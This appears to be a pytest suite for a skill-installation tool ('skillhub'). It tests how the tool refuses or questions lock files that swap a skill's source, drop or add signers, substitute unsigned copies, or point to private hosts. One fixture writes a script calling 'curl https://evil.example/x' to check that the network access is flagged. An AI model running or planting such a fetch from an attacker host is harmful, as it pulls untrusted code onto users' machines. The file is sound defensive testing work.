"""Consent is for a tree from a place: the same tree from another place is asked about like another tree."""

from __future__ import annotations

import json
import shutil
from dataclasses import replace
from pathlib import Path

import pytest

from skillhub.audit.audit import AuditRequest, audit
from skillhub.disk.folders import remove_tree
from skillhub.errors import FormatError, NotFound, Refused, SignerChanged, UnsafeTransfer, WrongBytes
from skillhub.formats.digest import NO_FILES, Digest
from skillhub.model.lock import Lock, Locked
from skillhub.model.provenance import Changes, Provenance
from skillhub.model.tree import SIGNATURE, File, Tree
from skillhub.project.user_state import Trusted
from skillhub.sources.local import read_local
from tests.support.gitrepos import SKILL, Repo
from tests.support.reaching import Reaching
from tests.support.registry import URL, Simulator
from tests.support.web import Web
from tests.support.world import Answers, OfUser, World, refused, skill

EVIL = f"key:{Digest.of(b'evil')}:evil"


def edit_lock(world, name="deploy", sources=(), **changes):
    path = world.base / "skillhub.lock"
    document = json.loads(path.read_text())
    block = {**document["skills"][name], **changes}
    document["skills"][name] = {key: value for key, value in block.items() if value is not None}
    document["sources"] |= dict(sources)
    path.write_text(json.dumps(document))


@pytest.fixture
def world(tmp_path):
    """A machine with an enabled skill of a repository."""
    repo = Repo(tmp_path / "repo")
    repo.commit({"skills/deploy/SKILL.md": SKILL})
    world = Reaching(tmp_path)
    world.install(f"git+{repo.url}", every=True)
    (world.base / "skillhub.toml").unlink()
    yield world
    world.close()


@pytest.fixture
def twin(world, tmp_path):
    """Another repository with the identical skill."""
    repo = Repo(tmp_path / "twin")
    repo.commit({"skills/deploy/SKILL.md": SKILL})
    return {"source": f"git+{repo.url}", "git": repo.url}


def test_attack_the_agreed_tree_from_another_repository_is_asked_about(world, twin):
    was = world.record("deploy").provenance
    edit_lock(world, source="git+https://10.0.0.7/x", git="https://10.0.0.7/x")
    with pytest.raises(UnsafeTransfer):
        world.update()  # a place without consent is read with restrictions
    edit_lock(world, **twin)
    before = world.snapshot()
    for act in (world.install, lambda **how: world.enable("deploy", **how)):
        answers = Answers("unanswered")
        with pytest.raises(Refused):
            act(answers=answers)
        (question,) = (each for each in answers.seen if each.kind == "install")
        assert f"was agreed to from {was.source} at {was.server} (skills/deploy)" in question.message
        assert f"the lock now has it from {twin['source']} at {twin['git']} (skills/deploy)" in question.message
        assert "unsigned" in answers.kinds_seen  # the other source is unsigned, too
    assert world.snapshot() == before
    assert not world.sync().skills[0].links
    assert not world.copy("deploy").exists()
    world.install()
    assert world.text("deploy") == SKILL.decode()
    assert world.record("deploy").provenance.source == twin["source"]
    answers = Answers("no")
    assert not world.install(answers=answers).changed
    assert not answers.seen


@pytest.mark.parametrize("claim", ["another repository", "another commit"])
def test_attack_a_lock_names_a_place_that_never_had_the_stored_tree(world, tmp_path, claim):
    repo = Repo(tmp_path / "honest")
    rev = repo.commit({"skills/deploy/SKILL.md": SKILL + b"Honest.\n"})
    other = Reaching(tmp_path, home="other")  # another project of the same user
    other.home, other.store, other.base = world.home, world.store, tmp_path / "second"
    other.base.mkdir()
    (other.base / "skillhub.lock").write_bytes((world.base / "skillhub.lock").read_bytes())
    origin = {"source": f"git+{repo.url}", "git": repo.url} if claim == "another repository" else {}
    edit_lock(other, rev=rev, **origin)
    answers = Answers("yes")
    refused(other, WrongBytes if origin else NotFound, lambda: other.install(answers=answers))
    assert not answers.seen
    other.close()


def test_attack_a_lock_names_a_folder_that_never_had_the_stored_tree(tmp_path):
    world = World(tmp_path)
    stored = read_local(str(skill(tmp_path / "elsewhere"))).tree
    world.store.put(stored)
    folder = skill(world.base / "src", body="Honest.\n")
    entry = Locked(source="local", path="src/plain", tree=stored.digest, size=stored.size)
    (world.base / "skillhub.lock").write_bytes(Lock({"plain": entry}).dump())
    answers = Answers("yes")
    refused(world, WrongBytes, lambda: world.install(answers=answers))
    assert not answers.seen
    shutil.rmtree(folder)
    assert world.install().changed


@pytest.mark.parametrize("gone", ["entry", "lock"])
def test_attack_a_lock_without_the_agreed_skill_hides_nothing_that_its_next_version_gains(tmp_path, gone):
    world = World(tmp_path)
    world.install(str(skill(world.base / "src")))
    skill(world.base / "src", scripts__run_sh="#!/bin/sh\ncurl https://evil.example/x\n")
    document = json.loads((world.base / "skillhub.lock").read_text())
    (world.base / "skillhub.lock").write_text(json.dumps({**document, "skills": {}}))
    if gone == "lock":
        (world.base / "skillhub.lock").unlink()
    answers = Answers("yes", capability="unanswered")
    refused(world, Refused, lambda: world.install(answers=answers))
    assert {"scripts", "network:evil.example"} <= {each.subject for each in answers.seen}


def test_attack_a_lock_does_not_lead_to_a_private_host_for_an_agreed_tree(world):
    """Consent to the tree does not authorize a request to another host, with or without the store."""
    with Web() as web:
        url = web.url("/x")
        edit_lock(world, source=f"git+{url}", git=url)
        for act in (world.behind, world.update):
            with pytest.raises(UnsafeTransfer, match="https URL"):
                act()
        remove_tree(world.store.root)
        for act in (world.install, lambda: world.enable("deploy")):
            with pytest.raises(UnsafeTransfer, match="https URL"):
                act()
        assert not web.connections


def test_attack_a_lock_with_the_empty_tree_of_a_disabled_skill_is_refused(world):
    other = world.as_cloned()
    other.disable("deploy")
    entry, record = replace(other.lock().skills["deploy"], tree=NO_FILES), other.record("deploy")
    assert record.tree == NO_FILES
    assert not record.is_of(entry)
    with Web() as web:
        url = web.url("/x")
        edit_lock(other, source=f"git+{url}", git=url, tree=NO_FILES)
        for act in (other.install, other.update, other.behind, other.sync, lambda: other.enable("deploy")):
            with pytest.raises(FormatError, match="expected a tree with files"):
                act()
        assert not web.connections


def test_a_change_of_signers_says_which_version_has_no_signature(tmp_path):
    world = World(tmp_path)
    world.install("github:code-review")
    signed = world.lock().skills["code-review"]
    edit_lock(world, "code-review", signed_by=None)
    unsigned = world.lock().skills["code-review"]
    (signer,) = signed.signed_by
    assert Changes.between(signed, unsigned, None, None).facts() == [f"signed by {signer} -> not signed"]
    assert Changes.between(unsigned, signed, None, None).facts() == [f"not signed -> signed by {signer}"]


@pytest.mark.parametrize(
    ("also", "lines"),
    [({"SKILL.md": b"2"}, ["~ SKILL.md"]), ({"new.md": b"2"}, ["+ new.md"]), ({}, ["~ skill.oms.sig"])],
)
def test_a_plan_lists_the_new_signature_only_if_no_other_file_changed(tmp_path, also, lines):
    world = World(tmp_path)
    world.install("github:code-review")
    entry = world.lock().skills["code-review"]
    old = {"SKILL.md": b"1", "skill.oms.sig": b"1"}
    before, after = (
        Tree({path: File(data) for path, data in files.items()}).listing
        for files in (old, old | also | {"skill.oms.sig": b"2"})
    )
    changes = Changes.between(entry, entry, before, after)
    assert changes.paths() == lines
    assert "skill.oms.sig" in changes.files.changed


def test_attack_a_lock_that_drops_the_signer_is_refused(tmp_path):
    world = World(tmp_path)
    world.install("github:code-review")
    edit_lock(world, "code-review", signed_by=None)
    assert "origin-changed" in world.problems("code-review")
    answers = Answers("yes")
    for act in (world.install, lambda **how: world.enable("code-review", **how)):
        error = refused(world, SignerChanged, lambda act=act: act(answers=answers))
        assert "to be signed by key:sha256:" in error.message
        assert "it is signed by nobody now" in error.message
    assert not answers.seen


def test_attack_a_disabled_skill_that_lost_its_signer_blocks_no_other(tmp_path):
    world = World(tmp_path)
    world.install("github:code-review")
    world.install(str(skill(world.base / "src")))
    world.disable("code-review")
    edit_lock(world, "code-review", signed_by=None)
    was = world.record("code-review")
    remove_tree(str(world.copy("plain")))
    for act, text in ((world.install, ""), (world.update, "Newer.\n")):
        skill(world.base / "src", **({"body": text} if text else {}))
        outcome = act()
        assert (world.copy("plain") / "SKILL.md").read_text().endswith(text)
        (note,) = (each for each in outcome.warnings if each.startswith("code-review stays disabled"))
        assert "skillhub remove code-review" in note
        assert world.record("code-review") == was
    assert "origin-changed" in world.problems("code-review")
    for act in (
        lambda: world.enable("code-review"),
        lambda: world.install("code-review"),
        lambda: world.update("code-review"),
        lambda: world.install(frozen=True),  # the lock exactly, or an error
    ):
        refused(world, SignerChanged, act)
    assert not world.copy("code-review").exists()


def test_attack_a_lock_that_adds_a_signer_is_refused(tmp_path):
    world = World(tmp_path)
    world.install("github:code-review")
    (signer,) = world.lock().skills["code-review"].signed_by
    for both in ([signer, EVIL], [EVIL, signer]):
        edit_lock(world, "code-review", signed_by=both)
        refused(world, SignerChanged, lambda: world.install(answers=Answers("yes")))


def vouch(evil, acme):
    """Let a registry list the keys of another registry's publisher as keys of its own; return all keys."""
    keys = [key for each in (evil, acme) for key in json.loads(each.files[each.publisher("acme")])["keys"]]
    evil.admit("acme", keys=keys)
    evil.publish("deploy", "1.1.0")
    return keys


def test_attack_another_registry_that_claims_the_signer_is_refused(tmp_path):
    world, other = World(tmp_path / "a"), World(tmp_path / "b")
    acme, evil = (Simulator(tmp_path / label, label) for label in ("acme", "evil"))
    for each in (world, other):
        each.add_source("acme", acme)
        each.add_source("evil", evil)
    for each in (acme, evil):
        each.publish("deploy", "1.0.0")
    world.install("acme:deploy")
    keys = vouch(evil, acme)
    other.install("evil:deploy")
    (world.base / "skillhub.toml").unlink()
    (world.base / "skillhub.lock").write_bytes(other.lock().dump())
    refused(world, SignerChanged, lambda: world.install(answers=Answers("yes")))
    world.publishers.trust(Trusted(tuple(keys), name="acme"))
    world.install()  # with the user's own reference


def test_attack_another_registry_under_the_same_alias_is_refused(tmp_path):
    world, other = World(tmp_path / "a"), World(tmp_path / "b")
    acme, evil = (Simulator(tmp_path / label, label) for label in ("acme", "evil"))
    world.add_source("acme", acme)
    other.add_source("acme", evil)
    acme.publish("deploy", "1.0.0")
    world.install("acme:deploy")
    evil.publish("deploy", "1.0.0")
    vouch(evil, acme)
    other.install("acme:deploy")
    (world.base / "skillhub.toml").unlink()
    (world.base / "skillhub.lock").write_bytes(other.lock().dump())
    world.sources.remove("acme")
    world.registries["acme"] = evil
    answers = Answers("yes")
    with pytest.raises(SignerChanged):  # in spite of consent to the other registry
        world.install(answers=answers)
    assert answers.kinds_seen == ["source"]
    world.remove("deploy")
    world.sources.add("acme", URL, acme.root)
    sources = world.ports().sources
    assert not sources.had_another("github")
    assert not sources.had_another("acme")  # the other registry was never accepted


def unsigned(world, tmp_path):
    """Replace a signed skill of a registry in the lock by an unsigned one of a repository."""
    tree = world.store.read(world.record("code-review").tree)
    files = {f"skills/code-review/{path}": file.data for path, file in tree.items() if path != SIGNATURE}
    repo = Repo(tmp_path / "evil")
    repo.commit(files)
    other = Reaching(tmp_path / "other")
    other.install(f"git+{repo.url}", every=True)
    document = json.loads(world.lock_bytes())
    document["skills"] |= json.loads(other.lock_bytes())["skills"]
    other.close()
    (world.base / "skillhub.lock").write_text(json.dumps(document))
    return f"git+{repo.url}"


def test_attack_an_unsigned_skill_in_place_of_a_signed_one_is_refused(world, tmp_path):
    world.install("github:code-review")
    was = world.record("code-review").provenance
    ref = unsigned(world, tmp_path)
    (world.base / "skillhub.toml").unlink()
    assert {"other-tree", "origin-changed"} <= {*world.problems("code-review")}
    for default in ("yes", "unanswered"):
        for act in (world.install, lambda **how: world.enable("code-review", **how)):
            answers = Answers(default)
            error = refused(world, SignerChanged, lambda act=act, answers=answers: act(answers=answers))
            assert not answers.seen
    refused(world, SignerChanged, lambda: world.install(frozen=True))
    assert world.record("code-review").provenance == was
    assert error.hint == (
        f"if that is intended: skillhub remove code-review, then skillhub install {ref} --skill code-review"
    )
    world.remove("code-review")
    answers = Answers("yes")
    world.install(ref, skills=("code-review",), answers=answers)
    assert {"unsigned", "install"} <= {*answers.kinds_seen}
    assert world.record("code-review").provenance.source == ref
    assert world.install().skills


def test_attack_a_lock_without_the_signed_skill_does_not_make_way_for_an_unsigned_one(world, tmp_path):
    world.install("github:code-review")
    unsigned(world, tmp_path)
    (world.base / "skillhub.toml").unlink()
    evil, lock = world.lock_bytes(), world.lock()
    (world.base / "skillhub.lock").write_bytes(Lock({"deploy": lock.skills["deploy"]}).dump())
    assert world.sync().changed
    (world.base / "skillhub.lock").write_bytes(evil)
    for act in (world.install, lambda **how: world.enable("code-review", **how)):
        error = refused(world, SignerChanged, lambda act=act: act(answers=Answers("yes")))
        assert not world.answers.seen
    assert error.hint.startswith("if that is intended: skillhub remove code-review, then ")
    world.remove("code-review")
    (world.base / "skillhub.lock").write_bytes(evil)
    assert "code-review" in {each.name for each in world.install(answers=Answers("yes")).skills}


def test_attack_another_source_in_the_intent_without_a_lock_is_refused(tmp_path):
    world = World(tmp_path)
    world.install("github:code-review")
    skill(world.base / "src", "code-review")
    document = json.loads((world.base / "skillhub.lock").read_text())
    del document["skills"]["code-review"]
    (world.base / "skillhub.lock").write_text(json.dumps(document))
    (world.base / "skillhub.toml").write_text('[skills]\ncode-review = {path = "src/code-review"}\n')
    error = refused(world, SignerChanged, lambda: world.install(answers=Answers("yes")))
    assert error.hint.endswith("skillhub remove code-review, then skillhub install ./src/code-review")


def test_the_hint_for_a_skill_of_the_user_has_the_global_flag(tmp_path):
    world = OfUser(tmp_path)
    world.install("github:code-review")
    other = skill(tmp_path / "a b", "code-review")
    Path(world.project.lock_path).unlink()
    Path(world.project.intent_path).unlink()
    error = refused(world, SignerChanged, lambda: world.install(str(other), answers=Answers("yes")))
    assert error.hint.endswith(f"skillhub remove code-review --global, then skillhub install '{other}' --global")


def test_attack_a_lock_with_another_tree_of_another_repository_is_asked_about(world, tmp_path):
    was = world.record("deploy").provenance
    repo = Repo(tmp_path / "worse")
    repo.commit({"skills/deploy/SKILL.md": SKILL + b"More.\n"})
    other = Reaching(tmp_path / "other")
    other.install(f"git+{repo.url}", every=True)
    other.close()
    (world.base / "skillhub.lock").write_bytes(other.lock_bytes())
    assert world.problems() == ["missing", "other-tree", "origin-changed"]
    found = {each.rule for each in audit(AuditRequest(refresh=False), world.ports()).findings}
    assert {"other-tree", "origin-changed"} <= found
    answers = Answers("unanswered")
    refused(world, Refused, lambda: world.install(answers=answers))
    (question,) = (each for each in answers.seen if each.kind == "install")
    *rest, last = question.details
    assert last.startswith(f"you agreed to it from {was.source} at {was.server} (skills/deploy); now it is from git+")
    assert f"source {was.source} -> git+{repo.url}" in rest
    assert not any(each.startswith("signed by") for each in rest)
    world.install()
    assert world.record("deploy").provenance.source == f"git+{repo.url}"


def test_attack_a_lock_with_another_source_of_the_user_is_reported(tmp_path):
    world = World(tmp_path)
    simulator = Simulator(tmp_path / "acme")
    world.add_source("acme", simulator)
    world.sources.add("evil", "https://evil.example", Simulator(tmp_path / "evil").root)
    simulator.publish("deploy", "1.0.0")
    world.install("acme:deploy")
    source = world.sources.get("evil")
    evil = {"kind": "registry", "url": source.url, "root": source.root}
    edit_lock(world, source="evil", sources={"evil": evil})
    (world.base / "skillhub.toml").unlink()
    assert "origin-changed" in world.problems("deploy")


def test_audit_reports_a_changed_origin_offline(world, twin):
    assert "origin-changed" not in {each.rule for each in audit(AuditRequest(refresh=False), world.ports()).findings}
    edit_lock(world, **twin)
    world.offline = True
    found = [
        each for each in audit(AuditRequest(refresh=False), world.ports()).findings if each.rule == "origin-changed"
    ]
    assert [(each.severity, each.skill, each.path) for each in found] == [("high", "deploy", "skillhub.lock")]


def test_verify_and_sync_report_a_changed_origin_offline(world, twin):
    edit_lock(world, **twin)
    world.offline = True
    assert world.problems() == ["origin-changed"]
    world.sync()
    assert world.problems() == ["origin-changed"]


def forget_whence(world):
    (path,) = Path(world.home.state, "projects").glob("*.json")
    document = json.loads(path.read_bytes())
    for block in document["skills"].values():
        del block["whence"]
    path.write_text(json.dumps(document))


def test_an_old_record_without_provenance_takes_that_of_the_lock(world, twin):
    was = world.record("deploy")
    forget_whence(world)
    assert world.record("deploy").provenance is None
    assert world.problems() == []
    answers = Answers("no")
    world.install(answers=answers)
    assert not answers.seen
    assert world.record("deploy") == was
    edit_lock(world, **twin)
    assert world.problems() == ["origin-changed"]


def test_sync_adds_the_provenance_to_an_old_record(world):
    was = world.project.records()
    forget_whence(world)
    world.sync()
    assert world.project.records() == was


def test_a_lock_restored_to_the_agreed_origin_needs_no_consent(world, twin):
    lock = world.lock_bytes()
    edit_lock(world, **twin)
    assert world.problems() == ["origin-changed"]
    (world.base / "skillhub.lock").write_bytes(lock)
    assert world.problems() == []
    answers = Answers("no")
    world.install(answers=answers)
    assert not answers.seen


def test_a_kill_before_the_lock_is_written_keeps_the_earlier_consent(world, twin):
    records = world.project.records()
    record = records.skills["deploy"]
    other = replace(record, provenance=replace(record.provenance, source=twin["source"], server=twin["git"]))
    world.project.write_records(replace(records, pending={"deploy": other}))
    world.sync()
    assert world.record("deploy").provenance == record.provenance
    assert world.copy("deploy").exists()


def test_against_lists_the_facts_that_differ():
    one = Provenance("acme", "a.example", "", ("key:sha256:1",))
    assert one.against(replace(one, signers=())) == ("signed by key:sha256:1", "unsigned")
    assert one.against(replace(one, server="b.example")) == ("from acme at a.example", "from acme at b.example")
    both = replace(one, path="x", signers=())
    assert one.against(both) == (
        "from acme at a.example, signed by key:sha256:1",
        "from acme at a.example (x), unsigned",
    )
